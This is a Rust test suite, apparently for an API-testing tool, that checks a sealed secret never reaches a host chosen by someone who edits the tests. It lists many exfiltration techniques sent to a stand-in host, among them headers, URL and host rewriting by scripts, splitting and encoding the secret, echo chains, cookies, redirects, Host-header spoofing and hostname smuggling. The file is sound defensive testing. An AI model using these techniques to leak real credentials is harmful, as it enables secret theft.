//! A member who may edit tests tries to get a sealed value to a host of their own, by every means there is. Nothing of it
//! arrives; of a plain secret it does.

use serde_json::{Value, json};
use tacit_proofs::{Program, World, stored, traces};

use crate::{SANDBOX, received, step};

/// Without characters that need escaping: it has to be found in the control.
const VALUE: &str = "k3y-0f-the-0wner-4711";

/// Attempts: steps and environment. `false` where even a plain secret does not get there.
fn attempts() -> Vec<(&'static str, Value, Value, bool)> {
    let s = "{{get_secret(key)}}";
    let none = || json!({});
    let go = |extra: Value| {
        let mut request = step(extra);
        if request["url"] == "{target}/echo" {
            request["url"] = json!("{elsewhere}/echo");
        }
        json!([request])
    };
    let script = |source: &str| json!([step(json!({"before_scripts": [source]}))]);
    let away = "request.url = '{elsewhere}/echo';";
    vec![
        ("header", go(json!({"headers": {"X-Key": [s]}})), none(), true),
        ("query", go(json!({"url": format!("{{elsewhere}}/echo?k={s}")})), none(), true),
        ("path", go(json!({"url": format!("{{elsewhere}}/{s}")})), none(), true),
        ("body", go(json!({"method": "POST", "body": s})), none(), true),
        ("form", go(json!({"method": "POST", "form": {"k": [s]}})), none(), true),
        ("basic", go(json!({"auth": {"auth_type": "basic", "username": s, "password": "x"}})), none(), true),
        ("environment header", go(none()), json!({"headers": {"X-Key": [s]}}), true),
        (
            "environment variable",
            go(json!({"headers": {"X-Key": ["{{v}}"]}})),
            json!({"initial_variables": {"v": s}}),
            true,
        ),
        (
            "environment script",
            go(none()),
            json!({"pre_request_scripts": ["request.headers['X-Key'] = get_secret('key')"]}),
            true,
        ),
        (
            "initial script",
            go(json!({"headers": {"X-Key": ["{{v}}"]}})),
            json!({"script": "variables.set('v', get_secret('key'))"}),
            true,
        ),
        ("base64", go(json!({"headers": {"X-Key": [format!("{{{{encode_base64({s})}}}}")]}})), none(), true),
        (
            "host by a variable",
            go(json!({"url": "{{where}}/echo", "headers": {"X-Key": [s]}})),
            json!({"initial_variables": {"where": "{elsewhere}"}}),
            true,
        ),
        (
            "script changes the URL",
            script(&format!("{away} request.headers['X-Key'] = get_secret('key')")),
            none(),
            true,
        ),
        (
            "script changes the host",
            script("request.host = '{elsewhere_host}'; request.headers['X-Key'] = get_secret('key')"),
            none(),
            true,
        ),
        (
            "script changes where a template went",
            json!([step(json!({"headers": {"X-Key": [s]}, "before_scripts": [away]}))]),
            none(),
            true,
        ),
        (
            "script splits it",
            script(&format!(
                "{away} const t = get_secret('key'); request.headers['X-A'] = t.slice(0, 12); request.headers['X-B'] = t.slice(12)"
            )),
            none(),
            false,
        ),
        (
            "script spells it out",
            script(&format!(
                "{away} request.headers['X-A'] = encodeURIComponent(get_secret('key')) + btoa(get_secret('key'))"
            )),
            none(),
            true,
        ),
        (
            "script digests a guess at hand",
            script(&format!(
                "{away} const t = get_secret('key'); request.headers['X-A'] = t === '{VALUE}' ? '{VALUE}' : 'no'"
            )),
            none(),
            true,
        ),
        (
            "an echo read by a script",
            json!([
                step(json!({"headers": {"X-Key": [s]}, "scripts": ["variables.set('v', response.body)"]})),
                step(json!({"url": "{elsewhere}/echo", "method": "POST", "body": "{{v}}"}))
            ]),
            none(),
            true,
        ),
        (
            "an echo taken by an extraction",
            json!([
                step(
                    json!({"headers": {"X-Key": [s]}, "variables": [{"name": "v", "source": "response_text"}]})
                ),
                step(json!({"url": "{elsewhere}/echo", "method": "POST", "body": "{{v}}"}))
            ]),
            none(),
            true,
        ),
        (
            "an echo that is read in the next step",
            json!([
                step(
                    json!({"headers": {"X-Key": [s]}, "scripts": ["variables.set('v', response.body.split('').reverse().join(''))"]})
                ),
                step(
                    json!({"url": "{elsewhere}/echo", "before_scripts": ["request.method = 'POST'; request.body = variables.get('v').split('').reverse().join('')"]})
                )
            ]),
            none(),
            true,
        ),
        (
            "a cookie that the target sets",
            json!([
                step(json!({"url": format!("{{target}}/set-cookie?c={s}")})),
                step(json!({"url": "{elsewhere}/echo"}))
            ]),
            json!({"preserve_cookies": true}),
            true,
        ),
        (
            "a redirect that takes it along",
            json!([step(json!({"url": format!("{{target}}/redirect-to?to={{elsewhere}}/{s}")}))]),
            none(),
            false,
        ),
        (
            "a condition that sends on",
            json!([{"step_type": "condition", "left_value": s, "comparison": "equal", "right_value": VALUE,
                "steps": [step(json!({"url": format!("{{elsewhere}}/{VALUE}")}))]}]),
            none(),
            true,
        ),
        (
            "the Host header of another",
            json!([step(json!({"headers": {"Host": ["{elsewhere_host}"], "X-Key": [s]}}))]),
            none(),
            false,
        ),
        (
            "user information",
            go(json!({"url": format!("http://u:{s}@{{elsewhere_host}}/echo")})),
            none(),
            false,
        ),
        ("the host name", go(json!({"url": format!("http://{s}.localhost/")})), none(), false),
        (
            "a name that looks like the allowed one",
            go(json!({"url": "http://127.0.0.1.localhost:1/", "headers": {"X-Key": [s]}})),
            none(),
            false,
        ),
        (
            "the name of a variable",
            script("variables.set(get_secret('key'), 'x'); request.headers['X'] = 'y'"),
            none(),
            false,
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_sealed_secret_gets_to_a_host_of_the_authors() {
    let mut wrong = Vec::new();
    for sealed in [true, false] {
        for redact in [true, false] {
            let mut world = World::new(SANDBOX).await.with("key", VALUE);
            if sealed {
                world.seal("key", &["{target}"]);
            }
            if redact {
                world.redact("key");
            }
            for (name, steps, environment, plain_arrives) in attempts() {
                let before = world.elsewhere.seen().len();
                let run = world.run(&Program { steps, environment }).await;
                let got = received(&world.elsewhere, before);
                let arrived = !traces::find(got.as_bytes(), VALUE).is_empty();
                if arrived != (!sealed && plain_arrives) {
                    wrong.push(format!("{name}, sealed {sealed}, redact {redact}: arrived {arrived}: {got}"));
                }
                if sealed && got.contains("tacitsealed") {
                    wrong.push(format!("{name}: a token arrived"));
                }
                if !traces::find(stored(&run).as_bytes(), VALUE).is_empty() {
                    wrong.push(format!("{name}, sealed {sealed}: the record shows it"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refusal_names_the_secret_and_the_host_as_it_is_written() {
    let mut world = World::new(SANDBOX).await.with("key", VALUE);
    world.seal("key", &["{target}"]);
    let steps = json!([step(json!({"url": "{{base}}/echo", "headers": {"X-Key": ["{{get_secret(key)}}"]}}))]);
    let environment = json!({"initial_variables": {"base": "{elsewhere}"}});
    let run = world.run(&Program { steps, environment }).await;
    let hints = crate::hints(&run);
    assert!(hints.contains("EGRESS_POLICY"), "{hints}");
    assert!(hints.contains("the secret `key` may not be sent to `{{base}}`"), "{hints}");
    assert_eq!(world.elsewhere.connections(), 0, "no connection was opened");

    // A front end that serves several hosts goes by the Host header.
    let headers = json!({"Host": ["{elsewhere_host}"], "X-Key": ["{{get_secret(key)}}"]});
    let run = world
        .run(&Program { steps: json!([step(json!({"headers": headers}))]), environment: json!({}) })
        .await;
    assert!(crate::hints(&run).contains("EGRESS_POLICY") && world.target.seen().is_empty());
}
